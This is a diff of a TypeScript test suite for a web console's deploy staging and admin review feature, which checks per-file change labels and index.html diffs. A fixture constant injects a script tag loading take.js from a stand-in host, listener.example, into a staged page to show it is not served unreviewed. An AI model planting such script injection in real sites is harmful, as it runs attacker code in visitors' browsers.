@@ -168,13 +168,17 @@ describe('console versions (/out-web deploy/web)', () => {
     const DEPLOY_PASSWORD = 'Deploy-Pass-42';
     expect((await post('/out-web/user/create', { username: 'stager', password: DEPLOY_PASSWORD })).statusCode).toBe(201);
     const stager = `Bearer ${(await post('/out-web/user/login', { username: 'stager', password: DEPLOY_PASSWORD })).json().token}`;
-    const legit = await upload('legit-1', tarGz({ 'index.html': '<html>\n<title>Legit</title>\n</html>' }));
+    const legit = await upload('legit-1', tarGz({ 'index.html': '<html>\n<title>Legit</title>\n</html>', 'robots.txt': 'User-agent: *' }));
     await release(legit.json().id);
     expect((await page('/')).body).toContain('Legit');
 
     // The web-deploy user uploads (stages) a version: nothing is served from it.
     const EVIL = '<script src="https://listener.example/take.js"></script>';
-    const staged = await upload('staged-1', tarGz({ 'index.html': `<html>\n${EVIL}\n</html>`, 'assets/extra.js': 'x' }), stager);
+    const staged = await upload(
+      'staged-1',
+      tarGz({ 'index.html': `<html>\n${EVIL}\n</html>`, 'assets/extra.js': 'x', 'robots.txt': 'User-agent: *' }),
+      stager,
+    );
     expect(staged.statusCode, staged.body).toBe(201);
     const id = staged.json().id as string;
 
@@ -214,9 +218,11 @@ describe('console versions (/out-web deploy/web)', () => {
       uploaded_by: { username: 'stager', role: 'web-deploy' },
       served: { version: 'legit-1' },
     });
-    expect(review.json().files.map((f: { path: string; bytes: number }) => [f.path, f.bytes])).toEqual([
-      ['assets/extra.js', 1],
-      ['index.html', `<html>\n${EVIL}\n</html>`.length],
+    // Each file against the ones served now: new, changed or the same.
+    expect(review.json().files.map((f: { path: string; bytes: number; change: string }) => [f.path, f.bytes, f.change])).toEqual([
+      ['assets/extra.js', 1, 'added'],
+      ['index.html', `<html>\n${EVIL}\n</html>`.length, 'changed'],
+      ['robots.txt', 'User-agent: *'.length, 'same'],
     ]);
     expect(review.json().index_diff).toEqual([
       { op: '=', line: '<html>' },
@@ -246,6 +252,11 @@ describe('console versions (/out-web deploy/web)', () => {
       await t.app.inject({ method: 'GET', url: `/v1/out-web/deploy/web/review?id=${legit.json().id}`, headers: { authorization: admin } })
     ).json();
     expect(against.served).toBeNull();
+    // The built console's files are what it is compared with (it has an index.html only).
+    expect(against.files.map((f: { path: string; change: string }) => [f.path, f.change])).toEqual([
+      ['index.html', 'changed'],
+      ['robots.txt', 'added'],
+    ]);
     expect(against.index_diff.filter((d: { op: string }) => d.op === '-').map((d: { line: string }) => d.line)).toEqual(
       BUILT.trimEnd()
         .split('\n')
